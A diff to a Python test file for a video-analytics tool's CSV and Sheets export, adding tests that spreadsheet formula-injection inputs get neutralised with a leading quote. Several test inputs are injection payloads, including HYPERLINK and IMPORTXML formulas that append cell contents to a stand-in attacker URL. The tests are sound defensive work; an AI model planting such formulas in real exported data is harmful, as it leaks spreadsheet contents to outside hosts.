@@ -11,10 +11,11 @@ from zoneinfo import ZoneInfo
 
 import pytest
 from vidstats import cli
-from vidstats.db import Database
+from vidstats.db import Database, Role
 from vidstats.export.cells import datetime_from_serial, serial_from_datetime, to_csv_text, to_sheet_value
 from vidstats.export.run import ServiceAccount, export_to_csv, export_to_sheets
 from vidstats.export.tables import ExportTarget
+from vidstats.read_model import refresh_read_model
 
 from tests.conftest import IsolatedDatabase
 from tests.sheets_export.conftest import SPREADSHEET_ID, dummy_credentials
@@ -48,8 +49,8 @@ def test_csv_files_hold_exactly_what_the_sheets_export_writes(
 
     assert [(p.name, rows) for p, rows in written] == [("all-videos.csv", 3), ("autumn-launch.csv", 2)]
     sheet_values = dict(sheets_api.value_ranges())
-    for path, a1 in [(tmp_path / "all-videos.csv", "'All videos'!A1:U4"),
-                     (tmp_path / "autumn-launch.csv", "'Autumn launch'!A1:R9")]:
+    for path, a1 in [(tmp_path / "all-videos.csv", "'All videos (updating)'!A1:U4"),
+                     (tmp_path / "autumn-launch.csv", "'Autumn launch (updating)'!A1:R9")]:
         assert read_csv(path) == [[as_text(v) for v in row] for row in sheet_values[a1]]
     assert read_csv(tmp_path / "all-videos.csv")[2][3] == "Morning routine ☀️ \"quoted\", =SUM(A1)"
 
@@ -98,3 +99,41 @@ def test_decimals_and_datetimes_become_numbers_and_utc_date_serials(value: Any, 
 def test_date_serials_round_trip_to_the_second() -> None:
     instant = datetime(2026, 10, 25, 22, 30, 15)
     assert datetime_from_serial(serial_from_datetime(instant)) == instant
+
+
+@pytest.mark.parametrize(("text", "written"), [
+    ('=HYPERLINK("https://evil.example/?"&A1, "click")', '\'=HYPERLINK("https://evil.example/?"&A1, "click")'),
+    ("=IMPORTXML(CONCAT(\"https://evil.example/?\", B2), \"//a\")",
+     "'=IMPORTXML(CONCAT(\"https://evil.example/?\", B2), \"//a\")"),
+    ("+1 555 0100 call me", "'+1 555 0100 call me"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\tcmd", "'\tcmd"),
+    ("\rcmd", "'\rcmd"),
+    ("Morning routine =SUM(A1)", "Morning routine =SUM(A1)"),  # only a leading sign makes a formula
+    ("", ""),
+])
+def test_csv_text_cells_that_a_spreadsheet_program_would_run_get_a_leading_quote(text: str, written: str) -> None:
+    assert to_csv_text(text) == written
+    assert to_sheet_value(text) == text  # the Sheets path writes RAW: stays text as it is
+
+
+@pytest.mark.parametrize(("value", "text"), [(-5, "-5"), (Decimal("-12.5"), "-12.5"), (-0.25, "-0.25")])
+def test_csv_negative_numbers_stay_numbers(value: Any, text: str) -> None:
+    assert to_csv_text(value) == text
+
+
+def test_a_formula_like_caption_reaches_the_csv_file_neutralised(
+        db: Database, tmp_path: Path) -> None:
+    ids = small_catalogue(db)
+    with db.transaction(Role.INGEST) as conn:
+        conn.execute("update analytics.videos set caption = %s where id = %s",
+                     ('=HYPERLINK("https://evil.example","win")', ids["a"]))
+    refresh_read_model(db)
+
+    export_to_csv(db, [ExportTarget(spreadsheet_id=SPREADSHEET_ID)], tmp_path, as_of=AS_OF)
+
+    with (tmp_path / "all-videos.csv").open(newline="", encoding="utf-8") as handle:
+        lines = list(csv.reader(handle))
+    assert lines[2][3] == '\'=HYPERLINK("https://evil.example","win")'
+    assert lines[2][6] == "400"  # numbers untouched
